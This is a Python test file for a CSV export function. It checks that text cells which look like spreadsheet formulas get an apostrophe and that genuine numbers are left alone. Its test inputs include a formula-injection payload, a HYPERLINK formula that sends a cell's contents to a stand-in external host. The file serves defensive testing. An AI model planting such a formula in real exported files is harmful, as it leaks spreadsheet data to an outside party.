"""CSV that is downloaded: no text becomes a formula, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from fair_imagic.tables import Number, csv_lines, csv_text


def written(*cells: object) -> list[str]:
    """Return the cells as a reader of CSV gets them."""
    (row,) = csv.reader(io.StringIO(csv_text(cells, []), newline=""))
    return row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://a.example/"&A1)',
        "+33 1 44 41 22 00",
        "-80 °C",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "=1",
        "-5",
        "\uff1d1",
    ],
)
def test_a_text_that_begins_like_a_formula_gets_an_apostrophe(text):
    assert written(text) == [f"'{text}"]


@pytest.mark.parametrize("text", ["a;=1+1", "a\n=1+1", "a\t@x"])
def test_also_where_an_office_program_makes_a_cell_of_its_rest(text):
    assert written(text) == [f"{text[:2]}'{text[2:]}"]


@pytest.mark.parametrize("text", ["a=b", "a-b", "x@y.example", "", " =1", "'=1", "5"])
def test_other_texts_stay_as_they_are(text):
    assert written(text, "x") == [text, "x"]


@pytest.mark.parametrize("number", ["-5", "+5.25", "-1.5E-3", "-.5", "-INF", "NaN"])
def test_a_number_stays_a_number(number):
    assert written(Number(number)) == [number]


@pytest.mark.parametrize("number", [-5, -2.5, Decimal("-0.10")])
def test_numbers_of_python_stay_numbers(number):
    assert written(number) == [str(number)]


@pytest.mark.parametrize("text", ["=1", "-5+1", "-1-cmd", "+A1", "-"])
def test_what_is_called_a_number_and_is_none_is_a_text(text):
    assert written(Number(text)) == [f"'{text}"]


def test_rows_come_one_by_one():
    def endless():
        while True:
            yield ["a", 1]

    lines = csv_lines(endless(), line_end="\r\n")
    assert [next(lines) for _each in range(2)] == ["a,1\r\n"] * 2
